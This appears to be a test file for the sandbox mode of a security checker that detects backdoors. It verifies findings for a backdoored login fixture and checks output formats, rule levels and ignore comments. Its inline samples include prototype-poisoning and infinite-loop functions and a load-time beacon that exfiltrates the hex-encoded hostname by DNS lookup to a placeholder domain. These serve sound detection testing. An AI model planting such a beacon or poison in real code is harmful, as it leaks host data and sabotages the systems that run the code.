// `orbit-ls check --sandbox` on a folder with one backdoored and one benign handler: the sandbox
// pass finds exactly the backdoor, in every output format; without --sandbox it does not run.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { checkIn: check } = require('../../support/run-check');
const { allRules } = require('../../../server/dist/core/security/registry.js');

const BACKDOORS = path.join(__dirname, '..', '..', 'fixtures', 'backdoors');
const SANDBOX_RULES = ['hidden-trigger', 'magic-auth-bypass', 'concealed-effect', 'unexpected-effect'];

/** A scratch folder with the two handlers, and settings with every static rule off so only the
 *  sandbox pass can report anything. */
function workspace() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-check-sandbox-'));
  fs.mkdirSync(path.join(dir, 'src'));
  fs.copyFileSync(path.join(BACKDOORS, 'backdoored', 'magic-user-exfil.ts'), path.join(dir, 'src', 'login.ts'));
  fs.copyFileSync(path.join(BACKDOORS, 'benign', 'login-bcrypt.ts'), path.join(dir, 'src', 'login-bcrypt.ts'));
  const config = path.join(dir, 'orbit.json');
  fs.writeFileSync(config, JSON.stringify({ pool: { size: 1 }, rules: Object.fromEntries(allRules().map((r) => [r.id, 'off'])) }));
  return { dir, config };
}

const { dir, config } = workspace();

test('check --sandbox --format json finds exactly the backdoor, named with its trigger and CWE-506', async () => {
  const { code, out } = await check(dir, ['--sandbox', '--config', config, '--format', 'json', 'src']);
  assert.equal(code, 1);
  const doc = JSON.parse(out);
  assert.equal(doc.summary.filesChecked, 2);
  assert.deepEqual(doc.findings.map((f) => [f.file, f.ruleId, f.start.line]), [['src/login.ts', 'hidden-trigger', 8]]);
  const [finding] = doc.findings;
  assert.deepEqual(finding.cwe, ['CWE-506', 'CWE-912']);
  assert.equal(finding.severity, 'error');
  assert.match(finding.message, /only when username === "svc_maint".*\(CWE-506\)$/);
});

test('without --sandbox the sandbox pass does not run', async () => {
  const { code, out } = await check(dir, ['--config', config, '--format', 'json', 'src']);
  assert.equal(code, 0);
  assert.deepEqual(JSON.parse(out).findings, []);
});

test('check --sandbox: SARIF has rule entries for the sandbox rules, and text output shows the finding', async () => {
  const sarif = JSON.parse((await check(dir, ['--sandbox', '--config', config, '--format', 'sarif', 'src'])).out);
  const { rules } = sarif.runs[0].tool.driver;
  for (const id of SANDBOX_RULES) assert.ok(rules.some((r) => r.id === id), `a rule entry for ${id}`);
  const [result] = sarif.runs[0].results;
  const rule = rules[result.ruleIndex];
  assert.equal(rule.id, 'hidden-trigger');
  assert.match(rule.shortDescription.text, /Hidden trigger/);
  assert.ok(rule.properties.tags.includes('external/cwe/cwe-506'));
  assert.equal(rule.helpUri, 'https://cwe.mitre.org/data/definitions/506.html');
  const plain = JSON.parse((await check(dir, ['--config', config, '--format', 'sarif', 'src'])).out);
  assert.ok(!plain.runs[0].tool.driver.rules.some((r) => SANDBOX_RULES.includes(r.id)), 'no sandbox rules when it did not run');

  const { out } = await check(dir, ['--sandbox', '--config', config, 'src']);
  assert.match(out, /^src\/login\.ts\n {2}8:\d+ +error +.*svc_maint.*\(CWE-506\) +hidden-trigger\n/m);
  assert.match(out, /1 finding \(1 error\) in 1 file; 2 files checked/);
});

test('orbit.rules applies to sandbox rules and ignore comments silence them, as for static rules', async () => {
  const levels = path.join(dir, 'levels.json');
  const base = JSON.parse(fs.readFileSync(config, 'utf8'));
  fs.writeFileSync(levels, JSON.stringify({ ...base, rules: { ...base.rules, 'hidden-trigger': 'warning' } }));
  const lowered = JSON.parse((await check(dir, ['--sandbox', '--config', levels, '--format', 'json', 'src'])).out);
  assert.deepEqual(lowered.findings.map((f) => [f.ruleId, f.severity]), [['hidden-trigger', 'warning']]);

  const quiet = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-check-sandbox-'));
  const text = fs.readFileSync(path.join(dir, 'src', 'login.ts'), 'utf8').replace('    await fetch(', '    // orbit-ignore-next-line hidden-trigger -- a test of the comment\n    await fetch(');
  fs.writeFileSync(path.join(quiet, 'login.ts'), text);
  const { code, out } = await check(quiet, ['--sandbox', '--config', config, '--format', 'json', '.']);
  assert.equal(code, 0);
  assert.deepEqual(JSON.parse(out).findings, []);
});

test('check --sandbox counts files whose sandbox pass could not complete, and a poisoned function hides nothing', async () => {
  const hostile = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-check-sandbox-'));
  const backdoor = fs.readFileSync(path.join(dir, 'src', 'login.ts'), 'utf8');
  fs.writeFileSync(path.join(hostile, 'login.ts'), `export function poison() {
  (Object.prototype as any).toJSON = function () { for (;;) {} };
  Object.defineProperty(Array.prototype, 'toJSON', { value: function () { return [this, this, this]; } });
  return [{ a: 1 }];
}
export function spin(x: string) {
  for (;;) { x = String(x).split('').reverse().join(''); }
}
${backdoor}`);
  const doc = JSON.parse((await check(hostile, ['--sandbox', '--config', config, '--format', 'json', '.'])).out);
  assert.deepEqual(doc.findings.map((f) => f.ruleId), ['hidden-trigger']);
  assert.equal(doc.summary.sandboxIncomplete, 1);
  assert.deepEqual(doc.notices.map((n) => [n.file, n.code]), [['login.ts', 'sandbox-incomplete']]);
  assert.match(doc.notices[0].message, /spin ran into the sandbox's time limit/);
  const { out } = await check(hostile, ['--sandbox', '--config', config, '.']);
  assert.match(out, /1 finding \(1 error\) in 1 file; 1 file checked in [\d.]+ s; sandbox pass incomplete in 1 file\n$/);
});

test('check --sandbox also runs a file\'s top level: a beacon set on a 90-second timer at load is reported', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-check-load-'));
  fs.writeFileSync(path.join(dir, 'telemetry.js'), "const os = require('os');\nsetTimeout(() => {\n  require('dns').lookup(Buffer.from(os.hostname()).toString('hex') + '.t.example', () => {});\n}, 90000);\nmodule.exports = {};\n");
  const { code, out } = await check(dir, ['--sandbox', '--format', 'json', '.']);
  assert.equal(code, 1);
  const f = JSON.parse(out).findings.filter((x) => x.ruleId === 'load-exfiltration');
  assert.equal(f.length, 1, out);
  assert.match(f[0].message, /os\.hostname\(\).*DNS.*hex/);
  assert.equal(f[0].start.line, 3);
});
